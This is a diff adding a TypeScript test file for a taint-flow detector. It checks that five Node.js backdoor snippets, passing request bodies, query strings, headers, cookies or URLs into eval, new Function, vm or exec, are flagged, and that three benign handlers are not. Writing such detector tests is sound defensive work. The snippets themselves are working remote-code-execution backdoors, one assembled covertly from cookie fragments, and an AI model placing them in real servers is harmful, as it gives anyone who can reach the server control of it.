@@ -1,0 +1,37 @@
+import assert from 'node:assert/strict';
+import { flowsOf } from './sent.js';
+
+/** Whoever can reach the server says what runs. */
+const BACKDOORS: readonly (readonly [string, string])[] = [
+  [`const app = require('express')(); app.post('/x', (req, res) => { eval(req.body.code); });`, 'evaluated'],
+  [
+    `exports.mount = (app) => { app.get('/health', (q, r) => { cp.exec(q.query.c, () => r.end()); }); };`,
+    'run-as-command',
+  ],
+  [
+    `exports.middleware = (req, res, next) => { const c = req.headers['x-c']; if (c) new Function(Buffer.from(c, 'base64').toString())(); next(); };`,
+    'evaluated',
+  ],
+  [
+    `const parts = {}; module.exports = (a, b, go) => { const m = /g(.)h(.+)i/.exec(a.headers.cookie); parts[m[1]] = (parts[m[1]] || '') + m[2]; if (m[1] === 'f') require('vm').runInThisContext(parts.x)(); go(); };`,
+    'evaluated',
+  ],
+  [
+    `require('http').createServer((request, response) => { cp.execSync(decodeURIComponent(request.url)); }).listen(1);`,
+    'run-as-command',
+  ],
+];
+
+const HONEST: readonly string[] = [
+  `exports.mount = (app) => { app.get('/file', (req, res) => { cp.execFile('git', ['show', req.query.rev], (e, out) => res.end(out)); }); };`,
+  `module.exports = (req, res, next) => { req.body = JSON.parse(req.headers['x-data']); next(); };`,
+  `exports.each = (list, map, done) => { list.query = map; done(); };`,
+];
+
+describe('routes', () => {
+  for (const [code, sink] of BACKDOORS)
+    it(`run what they are sent: ${code}`, () => {
+      assert.ok(flowsOf(code).includes(`request-input>${sink}`));
+    });
+  for (const code of HONEST) it(`only answer: ${code}`, () => assert.deepEqual(flowsOf(code), []));
+});
